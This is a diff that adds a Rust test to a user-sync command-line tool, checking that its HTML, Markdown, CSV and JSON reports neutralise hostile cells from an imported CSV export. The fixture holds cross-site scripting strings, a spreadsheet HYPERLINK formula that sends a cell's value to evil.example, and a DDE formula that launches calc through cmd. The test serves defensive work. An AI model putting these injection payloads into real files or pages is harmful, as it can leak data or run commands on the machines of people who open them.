@@ -560,3 +560,66 @@ fn an_export_cut_short_during_a_sync_stops_it_with_a_clear_error_and_no_deactiva
     assert_eq!(run.code, Some(0), "{}", run.stderr);
     assert_store_holds(&mock, &second, &[]);
 }
+
+#[test]
+fn hostile_cells_cannot_run_in_any_report() {
+    let dir = setup();
+    let export = "id,email,plan,sex,born\n\
+        E1,a@x.com,free,M,01/01/1990\n\
+        \"=HYPERLINK(\"\"http://evil.example/\"\"&A1)\",\"<script>alert(1)</script>@x.com\",free,F,02/02/1990\n\
+        E3,\"<img src=x onerror=alert(2)>\",free,M,03/03/1990\n\
+        E4,d@x.com,\"@SUM(1+1)*cmd|' /C calc'!A0\",M,04/04/1990\n\
+        +E5,e@x.com,free,M,\"]]><script>alert(3)</script>\"\n";
+    write(dir.path(), "export.csv", export);
+    let mock = TestMock::start("meetinglawyers", FaultConfig::default(), Credentials::new());
+    let mut cmd = usersync(dir.path());
+    cmd.args(["sync", "export.csv", "-c", "usersync.toml", "-t", "t"])
+        .args(["--ledger", "ledger.db", "--base-url", &mock.url()])
+        .envs(demo_env("meetinglawyers"));
+    let run = run_measured(cmd);
+    assert_eq!(run.code, Some(3), "{}", run.stderr);
+
+    for format in ["html", "md", "csv", "json"] {
+        let file = format!("report.{format}");
+        let mut cmd = usersync(dir.path());
+        cmd.args(["report", "last", "-c", "usersync.toml", "-t", "t"])
+            .args(["--ledger", "ledger.db", "-o", &file]);
+        let run = run_measured(cmd);
+        run.assert_sane(&file);
+        assert_eq!(run.code, Some(0), "{}", run.stderr);
+        let report = std::fs::read_to_string(dir.path().join(&file)).unwrap();
+        assert!(report.contains("alert(1)"), "{file} lost the rejected row");
+        match format {
+            "html" => {
+                for raw in ["<script>alert", "<img"] {
+                    assert!(!report.contains(raw), "{file} holds raw {raw}");
+                }
+            }
+            "md" => {
+                // Markdown shows `\<` as a plain `<`: every tag opener must be escaped so.
+                for raw in ["<script", "<img"] {
+                    for (at, _) in report.match_indices(raw) {
+                        assert!(report[..at].ends_with('\\'), "{file} holds raw {raw}");
+                    }
+                }
+            }
+            "csv" => {
+                let mut reader = csv::ReaderBuilder::new()
+                    .has_headers(false)
+                    .flexible(true)
+                    .from_reader(report.as_bytes());
+                for record in reader.records() {
+                    for cell in record.unwrap().iter() {
+                        assert!(
+                            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                            "a formula cell in {file}: {cell}"
+                        );
+                    }
+                }
+            }
+            _ => {
+                let _: Value = serde_json::from_str(&report).expect("the JSON report parses");
+            }
+        }
+    }
+}
